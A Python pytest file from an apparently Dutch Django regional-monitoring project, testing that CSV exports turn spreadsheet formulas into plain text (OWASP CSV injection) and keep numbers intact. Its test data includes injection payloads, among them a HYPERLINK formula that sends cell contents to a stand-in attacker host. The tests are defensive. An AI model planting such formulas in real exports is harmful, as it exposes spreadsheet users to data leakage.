"""CSV exports never hand a spreadsheet a formula (OWASP, CSV Injection), and keep numbers."""

from __future__ import annotations

import csv
import io

import pytest

from actielijnen.models import Voortgangsupdate
from regioaanpak.api.renderers import csv_veilig
from tests.factories import opgeslagen

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("tekst", "verwacht"),
    [
        ("=1+1", "'=1+1"),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r'=1"),
        ("=\n=;+", "'=\n'=;'+"),
        ('Veilig Thuis;=HYPERLINK("http://x")', 'Veilig Thuis;\'=HYPERLINK("http://x")'),
        ("a, =1", "a, '=1"),
        ("x\r=1+1", "x\r'=1+1"),
        ('x;"=1+1', "x;\"'=1+1"),
        ("-5", "-5"),
        ("-5.5", "-5.5"),
        ("12,5", "12,5"),
        ("Veilig Thuis ZHZ", "Veilig Thuis ZHZ"),
        ("", ""),
    ],
)
def test_csv_veilig(tekst, verwacht):
    assert csv_veilig(tekst) == verwacht


def _csv(antwoord) -> list[dict]:
    assert antwoord.status_code == 200, antwoord.content[:300]
    inhoud = b"".join(antwoord.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(inhoud)))


def test_voortgang_als_csv_neutraliseert_formules(regiostukken, cijferregios, api_token, api):
    Voortgangsupdate.objects.filter(pk=regiostukken["goedgekeurd"].pk).update(
        toelichting='=HYPERLINK("http://kwaad.example/?"&A1,"Klik")'
    )
    lezer = api(api_token(cijferregios["beleid"], ["VT24"]))
    rij = _csv(lezer.get("/api/v1/voortgang/?format=csv"))[0]
    assert rij["toelichting"] == '\'=HYPERLINK("http://kwaad.example/?"&A1,"Klik")'


def test_bron_van_een_partner_komt_onschadelijk_bij_interne_gebruikers(
    cijferregios, api_token, api
):
    # A partner's write token delivers a figure with a formula as its source ...
    partner = api(api_token(cijferregios["partner"], ["VT24"], scope="schrijven"))
    antwoord = partner.post(
        "/api/v1/waarnemingen/import/",
        [
            {
                "indicator": "vt_meldingen",
                "gebied": "GM0505",
                "periode": "2021KW03",
                "waarde": 405,
                "bron": '=HYPERLINK("http://kwaad.example","VT")',
            }
        ],
        format="json",
    )
    assert antwoord.status_code == 200, antwoord.json()
    assert opgeslagen().get(periode_id="2021KW03").bron.startswith("=HYPERLINK")
    # ... which an official's export shows as text, in the stored and in the computed list.
    from monitoring.models import Gegevenslevering
    from regioaanpak.choices import WorkflowStatus

    Gegevenslevering.objects.filter(regio_id="VT24", periode_id="2021KW03").update(
        workflow_status=WorkflowStatus.GOEDGEKEURD
    )
    beleid = api(api_token(cijferregios["beleid"], ["VT24"]))
    opgeslagen_rij = next(
        r
        for r in _csv(beleid.get("/api/v1/waarnemingen/?format=csv&periode=2021KW03"))
        if r["gebied"] == "GM0505"
    )
    assert opgeslagen_rij["bron"] == '\'=HYPERLINK("http://kwaad.example","VT")'
    assert opgeslagen_rij["waarde"] == "405"
    berekend = _csv(
        beleid.get(
            "/api/v1/waarnemingen/?format=csv&niveau=gemeente&gemeente=GM0505"
            "&indicator=vt_meldingen&periode=2021KW03"
        )
    )[0]
    assert berekend["bron"].startswith("'=HYPERLINK")
